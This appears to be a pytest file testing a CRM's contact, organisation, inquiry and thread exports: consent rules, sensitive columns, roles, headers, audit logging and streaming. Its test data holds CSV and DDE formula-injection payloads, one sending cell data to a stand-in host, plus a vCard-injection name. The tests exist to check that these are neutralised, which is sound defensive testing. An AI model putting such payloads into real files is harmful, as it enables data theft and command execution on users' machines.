"""Export pages and downloads: same rows as the list, consent, sensitive columns, safety, headers, audit."""

from __future__ import annotations

import io
import re
from datetime import date

import pytest
import vobject
from openpyxl import load_workbook
from sqlalchemy import select

from crm.models import AuditEntry
from crm.models.base import utcnow
from crm.models.enums import Role
from tests.exports.conftest import FORMULAS, download, list_total, read_csv
from tests.helpers import submit


def _audits(db, action="export"):
    return list(
        db.session.scalars(select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id))
    )


def _switch(client, login, user):
    client.post("/logout")
    return login(user)


def _export(client, query="", **changes):
    """Download through the rendered export form, as a browser would."""
    url = f"/contacts/export?{query}"
    response = submit(client, url, url, **changes)
    body = response.get_data()
    response.close()
    return response, body


# --- the page -------------------------------------------------------------------------------------


def test_the_page_says_how_many_match_and_who_a_mailing_leaves_out(client, login, coordinator, network):
    login(coordinator)
    page = client.get("/contacts/export?country=KZ").get_data(as_text=True)
    assert "4 contacts match" in page
    assert "Country: Kazakhstan" in page
    assert "A mailing list leaves out 2 people" in page
    assert "1 marked “do not contact”" in page and "1 without consent to be contacted" in page
    assert "The mailing list will hold 2 contacts." in page
    assert 'name="include_sensitive"' in page and "checked" not in re.search(
        r"<input[^>]*include_sensitive[^>]*>", page
    ).group(0)


@pytest.mark.parametrize(
    "query",
    [
        "",
        "country=KZ",
        "region=143",
        "tag={tag}",
        "organisation={organisation}",
        "q=%D0%9D%D1%83%D1%80",
        "country=KZ&tag={tag}",
    ],
)
def test_a_full_record_has_exactly_the_rows_the_list_shows(client, login, coordinator, network, query):
    query = query.format(tag=network.legal.id, organisation=network.ngo.id)
    login(coordinator)
    total = list_total(client, f"/contacts?{query}")
    assert total > 0
    response, body = _export(client, f"{query}&preset=full" if query else "preset=full")
    assert response.status_code == 200
    rows = read_csv(body)
    assert rows[0][:2] == ["Full name", "Name (Latin)"]
    assert len(rows) - 1 == total
    assert _audits(client.application.extensions["sqlalchemy"])[-1].changes["rows"] == total


def test_a_mailing_export_leaves_out_people_who_may_not_be_contacted(client, login, coordinator, network):
    login(coordinator)
    response, body = _export(client, "country=KZ")
    rows = read_csv(body)
    assert rows[0] == ["Full name", "E-mail", "Country", "Organisation", "Languages"]
    assert sorted(row[0] for row in rows[1:]) == ["Bolat Seitkali", "Айгерим Нургалиева"]


def test_sensitive_columns_only_when_a_coordinator_ticks_them(client, db, login, coordinator, network):
    login(coordinator)
    _, plain = _export(client, "preset=full")
    assert "Lived experience" not in read_csv(plain)[0] and b"Stateless until 2019" not in plain
    _, ticked = _export(client, "preset=full", include_sensitive="y")
    header, *rows = read_csv(ticked)
    assert header[-2:] == ["Lived experience", "Sensitive notes"]
    assert ["yes", "Stateless until 2019"] in [row[-2:] for row in rows]
    assert [entry.changes["sensitive"] for entry in _audits(db)] == [False, True]


@pytest.mark.parametrize("role", [Role.VIEWER, Role.STAFF])
def test_below_the_export_role_the_answer_is_403_and_the_attempt_is_audited(
    client, db, login, make_user, network, role
):
    login(make_user(role))
    for url in ("/contacts/export", "/organisations/export", "/inquiries/export", "/threads/export"):
        assert client.get(url).status_code == 403
        response, body = download(
            client, url, file_format="csv", preset="full", columns="full_name", include_sensitive="y"
        )
        assert response.status_code == 403 and b"Stateless" not in body
    assert not _audits(db)
    refused = _audits(db, "export_refused")
    assert len(refused) == 8 and refused[0].changes["path"] == "/contacts/export"


def test_the_export_role_is_configurable_and_staff_never_get_sensitive_columns(
    app, client, db, login, staff, coordinator, network, monkeypatch
):
    monkeypatch.setitem(app.config, "EXPORT_ROLE", "staff")
    login(staff)
    page = client.get("/contacts/export").get_data(as_text=True)
    assert "include_sensitive" not in page
    response, body = download(
        client,
        "/contacts/export",
        file_format="csv",
        preset="full",
        columns=["full_name", "sensitive_notes", "lived_experience"],
        include_sensitive="y",
    )
    assert response.status_code == 200
    header, *rows = read_csv(body)
    assert header == ["Full name"] and b"Stateless" not in body
    assert len(rows) == 5  # a full record for staff still keeps the consent rules
    assert _audits(db)[-1].changes["sensitive"] is False
    monkeypatch.setitem(app.config, "EXPORT_ROLE", "admin")
    _switch(client, login, coordinator)
    assert client.get("/contacts/export").status_code == 403


def test_an_unknown_export_role_locks_exports_to_admins(app, client, login, coordinator, admin, monkeypatch):
    monkeypatch.setitem(app.config, "EXPORT_ROLE", "everyone")
    login(coordinator)
    assert client.get("/contacts/export").status_code == 403
    _switch(client, login, admin)
    assert client.get("/contacts/export").status_code == 200


def test_choosing_no_column_is_an_error_next_to_the_columns_and_nothing_is_audited(
    client, db, login, coordinator, network
):
    login(coordinator)
    response = client.post("/contacts/export", data={"file_format": "csv", "preset": "mailing"})
    assert response.status_code == 200
    assert "Choose at least one column." in response.get_data(as_text=True)
    assert not _audits(db)


# --- the files -------------------------------------------------------------------------------------


def test_download_headers(client, login, coordinator, network):
    login(coordinator)
    today = utcnow().date().isoformat()
    for file_format, content_type, extension in (
        ("csv", "text/csv; charset=utf-8", "csv"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        ("vcf", "text/vcard; charset=utf-8", "vcf"),
    ):
        response, _ = _export(client, "country=KZ", file_format=file_format)
        assert response.headers["Content-Type"] == content_type
        assert response.headers["Content-Disposition"] == f"attachment; filename=contacts-{today}.{extension}"
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert date.fromisoformat(today)


def test_every_export_is_audited_with_its_filter_format_columns_and_row_count(
    client, db, login, coordinator, network
):
    login(coordinator)
    _export(client, f"country=KZ&tag={network.legal.id}", file_format="xlsx")
    (entry,) = _audits(db)
    assert entry.actor_id == coordinator.id and entry.entity_type == "contact" and entry.at is not None
    assert entry.changes["filters"] == {"country": "KZ", "tag": str(network.legal.id)}
    assert entry.changes["format"] == "xlsx" and entry.changes["preset"] == "mailing"
    assert entry.changes["columns"] == ["Full name", "E-mail", "Country", "Organisation", "Languages"]
    assert entry.changes["rows"] == 1 and entry.changes["sensitive"] is False


def test_formula_names_are_neutralised_in_csv_and_xlsx(client, login, coordinator, make_contact):
    # Names are stored stripped, so the whitespace cases travel in the notes.
    for n, formula in enumerate(FORMULAS):
        make_contact(
            full_name=formula if formula.strip() == formula else f"Person {n}",
            email=f"f{n}@example.org",
            consent_to_contact=True,
            phone="+41 22 000 00 00",
            notes=formula,
        )
    login(coordinator)
    _, body = _export(client, "preset=full")
    header, *rows = read_csv(body)
    column = {name: header.index(name) for name in ("Full name", "Phone", "Notes")}
    assert sorted(row[column["Notes"]] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert {row[column["Full name"]] for row in rows} >= {
        '\'=HYPERLINK("http://x?"&A1)',
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
    }
    assert {row[column["Phone"]] for row in rows} == {"'+41 22 000 00 00"}  # phones are text: guarded too
    _, body = _export(client, "preset=full", file_format="xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    notes = [row[column["Notes"]] for row in sheet.iter_rows(min_row=2)]
    assert len(notes) == len(FORMULAS)
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in notes)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_cyrillic_names_survive_csv_and_xlsx(client, login, coordinator, network):
    login(coordinator)
    _, body = _export(client, "country=KG")
    assert body.startswith(b"\xef\xbb\xbf")
    assert read_csv(body)[1][:2] == ["Нурлан Абдыкеримов", "nurlan@example.kg"]
    _, body = _export(client, "country=KG", file_format="xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet["A2"].value == "Нурлан Абдыкеримов" and sheet["D2"].value == "Бишкекский правовой центр"


def test_the_vcard_file_parses_to_one_card_per_contact_whatever_the_names(
    client, login, coordinator, make_contact
):
    names = ["A\nEND:VCARD\nBEGIN:VCARD\nFN:Fake", "a,b;c\\d", "Ольга; Иванова, \\ Петрова", "\rX"]
    for n, name in enumerate(names):
        make_contact(full_name=name, email=f"v{n}@example.org", consent_to_contact=True)
    login(coordinator)
    _, body = _export(client, "preset=full", file_format="vcf")
    cards = list(vobject.readComponents(body.decode("utf-8")))
    assert len(cards) == len(names)
    assert sorted(card.fn.value for card in cards) == sorted(
        name.replace("\r", "\n").strip() for name in names
    )
    assert sorted(card.email.value for card in cards) == [f"v{n}@example.org" for n in range(len(names))]


def test_the_csv_download_is_streamed_while_rows_are_read(
    client, db, login, coordinator, network, count_statements
):
    login(coordinator)
    with count_statements() as statements:
        response = client.post(
            "/contacts/export", data={"file_format": "csv", "preset": "full", "columns": "full_name"}
        )
        before = len(statements)
        assert response.is_streamed
        body = response.get_data()
        response.close()
    assert len(statements) > before  # the rows were read as the body was sent, after the view returned
    assert len(read_csv(body)) == 9


# --- list pages ----------------------------------------------------------------------------------


def test_list_pages_offer_export_only_to_those_allowed(client, login, staff, coordinator, network):
    pages = {
        "/contacts?country=KZ": "/contacts/export?country=KZ",
        "/organisations?country=KG": "/organisations/export?country=KG",
        "/inquiries?status=new": "/inquiries/export?status=new",
        "/threads?open=1": "/threads/export?open=1",
    }
    login(coordinator)
    for page, link in pages.items():
        assert f'href="{link}"' in client.get(page).get_data(as_text=True), page
    _switch(client, login, staff)
    for page, link in pages.items():
        assert link not in client.get(page).get_data(as_text=True), page


def test_organisation_inquiry_and_thread_exports_have_the_list_rows(
    client, db, login, coordinator, network, make_organisation, make_inquiry, make_thread
):
    make_organisation(name="=cmd|' /C calc'!A0", country_code="KZ")
    make_inquiry(sender_name="Aruzhan", sender_email="a@example.kz")
    make_inquiry(sender_name="Ерлан", sender_email="e@example.kz")
    make_thread(title="Nationality law review", organisations=[network.ngo])
    login(coordinator)
    for kind, query in (
        ("organisations", "country=KZ"),
        ("organisations", ""),
        ("inquiries", "q=aruzhan"),
        ("threads", ""),
    ):
        total = list_total(client, f"/{kind}?{query}")
        url = f"/{kind}/export?{query}"
        assert f"{total} row" in client.get(url).get_data(as_text=True)
        response, body = download(client, url, file_format="csv")
        assert response.headers["Content-Disposition"].startswith(f"attachment; filename={kind}-")
        assert len(read_csv(body)) - 1 == total > 0, kind
    _, body = download(client, "/organisations/export?country=KZ", file_format="xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet["A2"].value == "'=cmd|' /C calc'!A0" and sheet["A2"].data_type == "s"
    _, body = download(client, "/threads/export", file_format="csv")
    header, row = read_csv(body)
    assert dict(zip(header, row, strict=True))["Organisations"] == "Бишкекский правовой центр"
    entries = _audits(db)
    assert [e.entity_type for e in entries[-2:]] == ["organisation", "thread"]
    assert entries[-2].changes == {
        "filters": {"country": "KZ"},
        "format": "xlsx",
        "columns": entries[-2].changes["columns"],
        "rows": 1,
    }


def test_a_list_export_names_the_list_and_has_its_people(client, db, login, coordinator, staff, network):
    from crm.lists.services import add_members, create_list

    board = create_list("Board", actor=staff)
    add_members(board, [network.aigerim.id, network.unconsented.id], actor=staff)
    login(coordinator)
    page = client.get(f"/lists/{board.id}/export").get_data(as_text=True)
    assert "2 contacts match" in page and "1 without consent to be contacted" in page
    url = f"/lists/{board.id}/export?preset=full"
    response = submit(client, url, url)
    body = response.get_data()
    response.close()
    assert response.headers["Content-Disposition"].startswith(
        f"attachment; filename=contact-list-{board.id}-"
    )
    assert sorted(row[0] for row in read_csv(body)[1:]) == ["Айгерим Нургалиева", "Ерлан Садыков"]
    entry = _audits(db)[-1]
    assert (entry.entity_type, entry.entity_id, entry.changes["list"], entry.changes["rows"]) == (
        "contactlist",
        board.id,
        "Board",
        2,
    )
    assert board.last_used_at is not None


def test_an_export_without_the_tick_never_even_reads_sensitive_columns(
    client, db, login, coordinator, network, count_statements
):
    login(coordinator)
    with count_statements() as statements:
        for file_format in ("csv", "xlsx", "vcf"):
            _export(client, "preset=full", file_format=file_format)
        client.get("/contacts/export?preset=full")
    assert statements
    assert not [s for s in statements if "sensitive_notes" in s or "lived_experience" in s]


def test_a_5000_contact_download_takes_a_bounded_number_of_statements(
    client, db, login, coordinator, make_tag, count_statements
):
    from sqlalchemy import insert

    from crm.models import Contact, contact_tags
    from crm.models.enums import StakeholderType

    tag = make_tag("webinar 2026")
    db.session.execute(
        insert(Contact),
        [
            {
                "full_name": f"Контакт {n:05d}",
                "name_latin": f"Kontakt {n:05d}",
                "email": f"c{n}@example.org",
                "country_code": "KZ",
                "consent_to_contact": n % 10 != 0,
                "stakeholder_type": StakeholderType.OTHER,
            }
            for n in range(5000)
        ],
    )
    ids = db.session.scalars(select(Contact.id)).all()
    db.session.execute(insert(contact_tags), [{"contact_id": cid, "tag_id": tag.id} for cid in ids[::3]])
    login(coordinator)
    url = "/contacts/export?country=KZ&preset=full"
    with count_statements() as statements:
        _, body = _export(client, "country=KZ&preset=full")  # GET the page, then POST its form
    rows = read_csv(body)
    assert len(rows) - 1 == 5000 == list_total(client, url.replace("/export", "").replace("&preset=full", ""))
    # The page (sign-in, counts, filter names), the audit, the count, one row query, and per chunk of
    # 1,000 one query for affiliations and one for tags: 17 on both databases, never one per contact.
    assert len(statements) <= 20, statements
